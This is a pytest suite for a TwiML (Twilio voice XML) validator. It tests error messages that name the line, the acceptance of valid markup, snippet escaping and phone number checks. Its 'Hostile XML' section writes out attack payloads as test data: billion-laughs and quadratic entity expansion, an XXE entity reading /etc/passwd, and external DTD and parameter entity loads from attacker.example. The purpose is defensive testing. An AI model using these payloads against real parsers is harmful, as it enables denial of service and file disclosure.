"""TwiML checks: each refusal names the line and the reason; hostile XML costs nothing."""

from __future__ import annotations

import string
import time
from xml.sax.saxutils import escape

import defusedxml.ElementTree as SafeET
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tui.core import twiml
from tui.core.errors import TwimlError, ValidationError
from tui.core.snippets import BUILTIN_SNIPPETS, HOLD_MUSIC_URL, Snippet
from tui.core.twiml import KNOWN_VERBS, MAX_TWIML_CHARS, validate_twiml

# (TwiML, words the message must contain, line the problem is on)
BAD_TWIML = [
    ("", "empty", 1),
    ("   \n  ", "empty", 1),
    ("<Response>\n<Say>hi</Say>\n", "ends before every tag is closed", 2),
    ("<Response>\n  <Say>hi</Play>\n</Response>", "closing tag does not match", 2),
    ("<Response>\n<Say>fish & chips</Say></Response>", "&amp;", 2),
    ("<Response>\n\n<Say>&nbsp;</Say></Response>", "undefined entity", 3),
    ("<Response/><Response/>", "after </Response>", 1),
    ("hello", "not well-formed", 1),
    ("<Resonse>\n<Say>x</Say></Resonse>", "root element must be <Response>", 1),
    ("<Response>\n</Response>", "no verbs", 1),
    ("<Response>\nHello there\n</Response>", "outside any verb", 2),
    ("<Response>\n<Sya>x</Sya></Response>", "unknown TwiML verb <Sya> (did you mean <Say>?)", 2),
    ("<Response>\n<say>x</say></Response>", "did you mean <Say>", 2),
    ("<Response>\n<Blorp/></Response>", "unknown TwiML verb <Blorp>", 2),
    ("<Response>\n<Say>\n</Say></Response>", "<Say> has no text", 2),
    ("<Response>\n<Say><break time='1s'/></Say></Response>", "<Say> has no text", 2),
    ("<Response><Say>x\n<Play>u</Play></Say></Response>", "<Play> cannot be used inside <Say>", 2),
    ("<Response>\n<Play/></Response>", "<Play> needs an audio URL", 2),
    ("<Response>\n<Play>\nhold.mp3</Play></Response>", "relative", 3),
    ("<Response>\n<Play loop='forever'>https://a.example/x.mp3</Play></Response>", "loop", 2),
    ("<Response>\n<Say loop='-1'>hi</Say></Response>", "whole number", 2),
    ("<Response>\n<Pause length='1.5'/></Response>", "length", 2),
    ("<Response>\n<Dial/></Response>", "nothing to dial", 2),
    ("<Response>\n<Dial>\n  </Dial></Response>", "nothing to dial", 2),
    ("<Response>\n<Dial>\n555-0100</Dial></Response>", "E.164", 3),
    ("<Response><Dial>\n<Number>0044 20 7946</Number></Dial></Response>", "E.164", 2),
    ("<Response><Dial>\n<Number/></Dial></Response>", "no phone number", 2),
    ("<Response>\n<Number>+14155550100</Number></Response>", "belongs inside <Dial>", 2),
    ("<Response>\n<Response><Hangup/></Response></Response>", "only be the root", 2),
    ("<Response>\n<Gather><Dial>+14155550100</Dial></Gather></Response>", "inside <Gather>", 2),
    ("<Response>\n<Enqueue/></Response>", "queue name", 2),
    ("<Response>\n<Redirect/></Response>", "<Redirect> needs the URL", 2),
    ("<Response>\n<Redirect>ftp://x.example/</Redirect></Response>", "scheme 'ftp'", 2),
    ("<Response>\n<Say>\ud800</Say></Response>", "invalid character", 2),
    ("<Response>\n<Say>\x00</Say></Response>", "invalid character", 2),
    ("<Response>\n<!DOCTYPE x>\n<Say>x</Say></Response>", "DOCTYPE", 2),
]


@pytest.mark.parametrize(("text", "reason", "line"), BAD_TWIML)
def test_bad_twiml_is_refused_naming_reason_and_line(text: str, reason: str, line: int) -> None:
    with pytest.raises(TwimlError) as caught:
        validate_twiml(text)
    message = str(caught.value)
    assert reason in message
    assert caught.value.line == line
    if "empty" not in reason:
        assert f"line {line}" in message.lower()


def test_lines_count_blank_lines_before_the_twiml_as_typed() -> None:
    with pytest.raises(TwimlError) as caught:
        validate_twiml("\n\n<Response>\n  <Say>hi</Sya>\n</Response>")
    assert caught.value.line == 4
    assert str(caught.value).startswith("Line 4, column")


def test_too_long_says_how_long_and_where() -> None:
    text = "<Response>\n" + "<Say>hello</Say>\n" * 300 + "</Response>"
    with pytest.raises(TwimlError) as caught:
        validate_twiml(text)
    assert f"{len(text):,} characters" in str(caught.value)
    assert "4,000" in str(caught.value)
    assert caught.value.line == 4000 // len("<Say>hello</Say>\n") + 1


def test_exactly_the_limit_is_accepted() -> None:
    body = "<Response><Say></Say></Response>"
    text = body.replace("<Say>", "<Say>" + "a" * (MAX_TWIML_CHARS - len(body)))
    assert len(text) == MAX_TWIML_CHARS
    assert validate_twiml(text) == text


GOOD_TWIML = [
    "<Response><Say>Hello</Say></Response>",
    '<?xml version="1.0" encoding="UTF-8"?>\n<Response><Hangup/></Response>',
    '<?xml version="1.0" encoding="ISO-8859-1"?><Response><Say>Grüße</Say></Response>',
    '<Response><Play loop="0">' + HOLD_MUSIC_URL + "</Play></Response>",
    '<Response><Play digits="ww1234#"/></Response>',
    "<Response><Say>Hi <break time='1s'/> <emphasis>there</emphasis></Say></Response>",
    "<Response><Say><![CDATA[a < b]]></Say><!-- note --></Response>",
    "<Response><Dial>+14155550100</Dial></Response>",
    "<Response><Dial><Number>+14155550100</Number><Client>ana</Client></Dial></Response>",
    "<Response><Dial><Sip>sip:agent@example.com</Sip></Dial></Response>",
    "<Response><Dial><Conference>room-1</Conference></Dial></Response>",
    "<Response><Gather input='dtmf'><Say>Press 1</Say></Gather><Pause length='2'/></Response>",
    "<Response><Enqueue waitUrl='https://x.example/w'>support</Enqueue></Response>",
    "<Response><Enqueue workflowSid='WW123'><Task>{}</Task></Enqueue></Response>",
    "<Response><Start><Stream url='wss://x.example/s'/></Start><Say>hi</Say></Response>",
    "<Response><Connect><Stream url='wss://x.example/s'><Parameter name='a' value='b'/>"
    "</Stream></Connect></Response>",
    "<Response><Redirect method='GET'>https://x.example/next</Redirect></Response>",
    "<Response><Leave/></Response>",
    "<Response><Reject reason='busy'/></Response>",
]


@pytest.mark.parametrize("text", GOOD_TWIML)
def test_good_twiml_is_returned_unchanged(text: str) -> None:
    assert validate_twiml(f"\n  {text}  \n") == text


def test_known_verbs_cover_twilio_voice_verbs_and_nouns() -> None:
    expected = {
        "Say", "Play", "Pause", "Gather", "Dial", "Number", "Client", "Conference", "Queue",
        "Sip", "Enqueue", "Leave", "Hangup", "Redirect", "Reject", "Record", "Connect", "Stream",
        "Start", "Stop", "Refer", "Pay", "Prompt", "Parameter", "Task", "Siprec",
        "Transcription", "VirtualAgent", "Application", "Identity", "Echo",
    }  # fmt: skip
    assert expected <= KNOWN_VERBS
    assert "Response" not in KNOWN_VERBS


# --- Hostile XML -------------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n<Response><Say>&lol9;</Say></Response>"
)
QUADRATIC = (
    '<!DOCTYPE r [<!ENTITY a "'
    + "a" * 50_000
    + '">]><Response><Say>'
    + "&a;" * 50_000
    + "</Say></Response>"
)
EXTERNAL = (
    '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    "<Response><Say>&xxe;</Say></Response>"
)
EXTERNAL_DTD = '<!DOCTYPE Response SYSTEM "http://attacker.example/x.dtd"><Response/>'
PARAMETER_ENTITY = (
    '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><Response/>'
)
HOSTILE = [BILLION_LAUGHS, QUADRATIC, EXTERNAL, EXTERNAL_DTD, PARAMETER_ENTITY]


@pytest.mark.parametrize("text", HOSTILE, ids=["billion", "quadratic", "xxe", "dtd", "param"])
def test_hostile_xml_is_refused_fast(text: str) -> None:
    started = time.perf_counter()
    with pytest.raises(TwimlError) as caught:
        validate_twiml(text)
    assert time.perf_counter() - started < 0.1
    assert "DOCTYPE" in str(caught.value)
    assert "root:" not in str(caught.value)  # nothing from /etc/passwd


@pytest.mark.parametrize("text", HOSTILE[:1] + HOSTILE[2:], ids=["billion", "xxe", "dtd", "param"])
def test_the_parser_itself_refuses_dtds_even_without_the_pre_check(text: str) -> None:
    started = time.perf_counter()
    with pytest.raises(TwimlError, match="DTD"):
        twiml._parse(text)
    assert time.perf_counter() - started < 0.1


# --- Properties --------------------------------------------------------------------------------

_xml_pieces = st.sampled_from(
    [
        "<Response>", "</Response>", "<Say>", "</Say>", "<Play loop='2'>", "</Play>", "<Dial>",
        "</Dial>", "<Number>", "</Number>", "+14155550100", "hello", "&amp;", "&", "<", ">",
        "<Hangup/>", "<!-- c -->", "<![CDATA[x]]>", "<!DOCTYPE r>", "&lol;", "\n", " ",
        '<?xml version="1.0"?>', "<Pause length='x'/>", "https://a.example/m.mp3", "<say>",
    ]
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(max_size=200), st.lists(_xml_pieces, max_size=30).map("".join)))
def test_any_text_validates_or_raises_twiml_error(text: str) -> None:
    try:
        result = validate_twiml(text)
    except TwimlError as err:
        assert str(err)
    else:
        assert result == text.lstrip("\ufeff").strip()


_speakable = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Cn", "Co")),
    min_size=1,
    max_size=40,
).filter(lambda s: s.strip())
_safe_url = st.builds(
    "https://{}.example/{}.mp3".format,
    st.text(string.ascii_lowercase, min_size=1, max_size=8),
    st.text(string.ascii_letters + string.digits, min_size=1, max_size=8),
)
_number = st.builds("+1415555{:04d}".format, st.integers(100, 199)) | st.sampled_from(
    ["+447911123456", "+33612345678", "+8613800138000", "+15005550006"]
)


def _verb(kind: str, value: str, loop: int) -> str:
    return {
        "say": f'<Say loop="{loop}">{escape(value)}</Say>',
        "play": f'<Play loop="{loop}">{escape(value)}</Play>',
        "dial": f"<Dial><Number>{value}</Number></Dial>",
        "pause": f'<Pause length="{loop}"/>',
        "hangup": "<Hangup/>",
    }[kind]


_verbs = st.one_of(
    st.tuples(st.just("say"), _speakable, st.integers(0, 10)),
    st.tuples(st.just("play"), _safe_url, st.integers(0, 10)),
    st.tuples(st.just("dial"), _number, st.just(0)),
    st.tuples(st.sampled_from(["pause", "hangup"]), st.just(""), st.integers(0, 10)),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(_verbs, min_size=1, max_size=8), st.sampled_from(["", "\n", "\n  "]))
def test_generated_valid_responses_round_trip(verbs: list[tuple[str, str, int]], sep: str) -> None:
    doc = "<Response>" + sep + sep.join(_verb(*v) for v in verbs) + sep + "</Response>"
    assert validate_twiml(doc) == doc
    parsed = SafeET.fromstring(doc)
    spoken = [el.text for el in parsed if el.tag == "Say"]
    assert spoken == [value for kind, value, _ in verbs if kind == "say"]


# --- Snippets ----------------------------------------------------------------------------------


def _builtin(key: str) -> Snippet:
    return next(s for s in BUILTIN_SNIPPETS if s.key == key)


def test_builtin_snippets() -> None:
    assert [s.key for s in BUILTIN_SNIPPETS] == [
        "announce", "hold-music", "dial-agent", "enqueue", "hang-up",
    ]  # fmt: skip
    assert _builtin("announce").placeholders == ("message", "url")
    # Laid out one element per line, so the editor opens on TwiML that reads (and edits) easily.
    hang_up = _builtin("hang-up").render({})
    assert hang_up.splitlines() == ["<Response>", "  <Hangup/>", "</Response>"]
    assert _builtin("dial-agent").render({"agent_number": "+14155550123"}).splitlines() == [
        "<Response>",
        "  <Dial>",
        "    <Number>+14155550123</Number>",
        "  </Dial>",
        "</Response>",
    ]
    assert _builtin("enqueue").render({"queue": "support"}) == (
        "<Response>\n  <Enqueue>support</Enqueue>\n</Response>"
    )


def test_hold_music_uses_its_default_url_unless_given_one() -> None:
    hold = _builtin("hold-music")
    assert hold.defaults == {"url": HOLD_MUSIC_URL}
    assert HOLD_MUSIC_URL in hold.render({})
    assert HOLD_MUSIC_URL in hold.render({"url": "  "})
    assert "https://x.example/m.mp3" in hold.render({"url": "https://x.example/m.mp3"})


def test_values_are_escaped_so_they_cannot_add_markup() -> None:
    rendered = _builtin("announce").render({"message": 'Hi</Say><Hangup/><Say a="'})
    assert "<Hangup/>" not in rendered
    assert SafeET.fromstring(rendered)[0].text == 'Hi</Say><Hangup/><Say a="'


def test_escaping_also_protects_attributes() -> None:
    snippet = Snippet("x", "X", '<Response><Say voice="{voice}">hello</Say></Response>')
    rendered = snippet.render({"voice": 'a" loop="-1'})
    assert SafeET.fromstring(rendered)[0].get("voice") == 'a" loop="-1'


def test_a_missing_value_is_refused() -> None:
    with pytest.raises(ValidationError, match="needs a value for 'queue'"):
        _builtin("enqueue").render({})


@pytest.mark.parametrize("number", ["4155550100", "+1 415 555 0100", "x", ""])
def test_a_number_placeholder_must_be_e164(number: str) -> None:
    with pytest.raises(ValidationError, match=r"agent_number.*(E\.164|required)"):
        _builtin("dial-agent").render({"agent_number": number})


def test_a_number_is_rendered_trimmed() -> None:
    rendered = _builtin("dial-agent").render({"agent_number": " +14155550100 "})
    assert "<Number>+14155550100</Number>" in rendered


def test_placeholders_are_ordered_unique_and_ignore_other_braces() -> None:
    snippet = Snippet("k", "t", "<Response><Say>{b} {a} {b} {not valid} {}</Say></Response>")
    assert snippet.placeholders == ("b", "a")
    assert "{not valid} {}" in snippet.render({"a": "1", "b": "2"})


def test_a_rendered_template_that_is_not_twiml_is_refused() -> None:
    with pytest.raises(TwimlError, match="no text"):
        Snippet(key="s", title="S", template="<Response><Say>{message}</Say></Response>").render(
            {"message": "   "}
        )


def test_snippets_are_hashable_and_defaults_immutable() -> None:
    defaults = {"url": "https://x.example/a.mp3"}
    snippet = Snippet("k", "t", "<Response><Play>{url}</Play></Response>", defaults)
    defaults["url"] = "changed"
    assert snippet.defaults["url"] == "https://x.example/a.mp3"
    assert hash(snippet) == hash(Snippet("k", "t", snippet.template, {"url": "other"}))


@pytest.mark.parametrize("number", ["+12", "+1415555010", "+15551234567"])
def test_numbers_in_twiml_are_checked_with_phonenumbers(number: str) -> None:
    with pytest.raises(TwimlError, match="cannot be dialled"):
        validate_twiml(f"<Response><Dial><Number>{number}</Number></Dial></Response>")
    with pytest.raises(TwimlError, match="cannot be dialled"):
        validate_twiml(f"<Response><Dial>{number}</Dial></Response>")
    with pytest.raises(ValidationError, match="cannot be dialled"):
        _builtin("dial-agent").render({"agent_number": number})
